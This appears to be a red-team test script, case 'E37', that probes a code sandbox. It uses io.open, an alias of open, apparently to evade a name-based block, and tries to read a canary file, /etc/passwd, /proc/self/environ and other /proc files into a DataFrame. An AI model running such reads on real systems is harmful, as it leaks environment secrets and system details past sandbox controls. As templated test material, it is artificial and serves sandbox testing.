# technique: io.open (the same open under another name) on host files (canary, /etc/passwd, /proc/self/environ, /proc/1/cmdline, /proc/self/maps); df only if some target was read
# goal: read
# redteam: E37
import io
import pandas as pd

TARGETS = ["{{CANARY_FILE}}", "/etc/passwd", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/maps"]
rows = []
for path in TARGETS:
    try:
        with io.open(path, "r", encoding="latin-1") as fh:
            data = fh.read(65536)
    except Exception:  # this target was refused; df below only if another one was read
        continue
    if data:
        rows.append({"target": path, "content": data[:2000]})
if not rows:
    raise RuntimeError("no target was readable")
df = pd.DataFrame(rows)
